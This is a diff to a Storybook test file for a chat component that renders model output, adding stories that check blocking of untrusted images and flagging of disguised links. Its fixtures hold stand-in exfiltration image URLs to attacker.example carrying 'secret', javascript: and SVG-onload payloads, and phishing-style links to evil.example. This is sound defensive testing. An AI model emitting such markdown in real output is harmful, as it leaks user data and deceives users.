@@ -1,7 +1,7 @@
 import { useEffect, useState } from 'react';
 import type { Meta, StoryObj } from '@storybook/react-vite';
-import { MessageText } from '@platosdev/client/react';
-import { expect, spyOn, waitFor, within } from 'storybook/test';
+import { ContentPolicyProvider, MessageText } from '@platosdev/client/react';
+import { expect, spyOn, userEvent, waitFor, within } from 'storybook/test';
 
 const meta = {
   title: 'Components/MessageText',
@@ -52,7 +52,7 @@ export const TrickyMarkdown: Story = {
     expect(canvasElement).toHaveTextContent('*escaped stars*');
     expect(canvas.getByText('code with ** stars').tagName).toBe('CODE');
     expect(canvas.getByText('deeper').closest('ul')?.closest('ul')?.closest('ol')).not.toBeNull();
-    expect(canvas.getByRole('link', { name: 'safe link' })).toHaveAttribute('rel', 'noopener noreferrer');
+    expect(canvas.getByRole('link', { name: 'safe link' })).toHaveAttribute('rel', 'noopener noreferrer nofollow');
     expect(canvasElement).toHaveTextContent('```ts const fenced = "inside a longer fence"; ```');
     expect(canvas.getAllByRole('row')).toHaveLength(2);
     expect(canvas.queryByRole('link', { name: 'link' })).toBeNull();
@@ -160,5 +160,74 @@ export const OpenCodeFence: Story = {
     expect(block).toHaveAttribute('data-state', 'streaming');
     expect(block?.querySelector('code')).toHaveAttribute('data-highlight', 'plain');
     expect(canvasElement).not.toHaveTextContent('```');
+  },
+};
+
+const hostileImageMarkdown = [
+  'Here is the chart: ![Quarterly revenue](https://attacker.example/leak?d=secret) and the same host again: ![Team photo](https://attacker.example/p.png)',
+  '',
+  'Ours, from an allowed prefix: ![Allowed picture](/images/allowed.png)',
+  '',
+  'Never loadable: ![pixel](javascript:alert(1)) ![vector](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
+].join('\n');
+
+/**
+ * Images in model output load only from prefixes the app allowed (`imagePolicy`); any other host shows a placeholder
+ * with its host and a "Load image" button, and makes no request. Script and SVG addresses never load.
+ */
+export const HostileImage: Story = {
+  args: { text: hostileImageMarkdown.replace('/images/allowed.png', `${location.origin}/images/allowed.png`) },
+  decorators: [(Story) => <ContentPolicyProvider imagePolicy={{ allow: [`${location.origin}/images/`] }}>{Story()}</ContentPolicyProvider>],
+  play: async ({ canvasElement }) => {
+    const canvas = within(canvasElement);
+    expect(canvasElement.querySelectorAll('img')).toHaveLength(1);
+    const allowed = canvas.getByRole<HTMLImageElement>('img', { name: 'Allowed picture' });
+    expect(allowed).toHaveAttribute('referrerpolicy', 'no-referrer');
+    const placeholders = canvasElement.querySelectorAll('.platos-image-placeholder[data-state="blocked"]');
+    expect(placeholders).toHaveLength(2);
+    expect(placeholders[0]).toHaveAttribute('data-host', 'attacker.example');
+    expect(placeholders[0]).toHaveTextContent('Image from attacker.example not loaded');
+    expect(canvas.getAllByRole('button', { name: 'Load image from attacker.example' })).toHaveLength(2);
+    expect(canvasElement.querySelectorAll('.platos-image-placeholder[data-state="unsafe"]')).toHaveLength(2);
+    expect(canvasElement.innerHTML).not.toContain('leak?d=secret');
+  },
+};
+
+const disguisedLinkMarkdown = [
+  'Log in at [bank.com](https://evil.example/login?session=abc) or [https://bank.com/login](https://bank.com.evil.example/login).',
+  '',
+  'Honest links show no hint: https://example.com/docs and [example.com](https://example.com/).',
+  '',
+  'Read [the report](https://reports.example/q3?leak=secret) before the meeting.',
+].join('\n');
+
+/**
+ * A link whose text names another host shows the real one beside it, and its full address as a tooltip. With
+ * `linkPolicy={{ confirm: 'external' }}` a click first shows the full address inline, with "Open link" and "Cancel".
+ */
+export const DisguisedLink: Story = {
+  args: { text: disguisedLinkMarkdown },
+  decorators: [(Story) => <ContentPolicyProvider linkPolicy={{ confirm: 'external' }}>{Story()}</ContentPolicyProvider>],
+  beforeEach: () => {
+    const open = spyOn(window, 'open').mockImplementation(() => null);
+    return () => open.mockRestore();
+  },
+  play: async ({ canvasElement }) => {
+    const canvas = within(canvasElement);
+    const hosts = [...canvasElement.querySelectorAll('.platos-link-host')].map((host) => host.textContent);
+    expect(hosts).toEqual(['evil.example', 'bank.com.evil.example', 'reports.example']);
+    expect(canvas.getByRole('link', { name: 'bank.com' })).toHaveAttribute('title', 'https://evil.example/login?session=abc');
+    await userEvent.click(canvas.getByRole('link', { name: 'the report' }));
+    const confirm = canvas.getByRole('group', { name: 'Open this link? https://reports.example/q3?leak=secret' });
+    expect(within(confirm).getByRole('button', { name: 'Cancel' })).toHaveFocus();
+    await userEvent.keyboard('{Escape}');
+    expect(canvas.queryByRole('group')).toBeNull();
+    expect(canvas.getByRole('link', { name: 'the report' })).toHaveFocus();
+    await userEvent.keyboard('{Enter}');
+    await userEvent.click(within(canvas.getByRole('group')).getByRole('button', { name: 'Open link' }));
+    expect(window.open).toHaveBeenCalledWith('https://reports.example/q3?leak=secret', '_blank', 'noopener,noreferrer');
+    // Left open for the docs and screenshots.
+    await userEvent.click(canvas.getByRole('link', { name: 'the report' }));
+    expect(canvas.getByRole('group', { name: /^Open this link\?/ })).toBeInTheDocument();
   },
 };
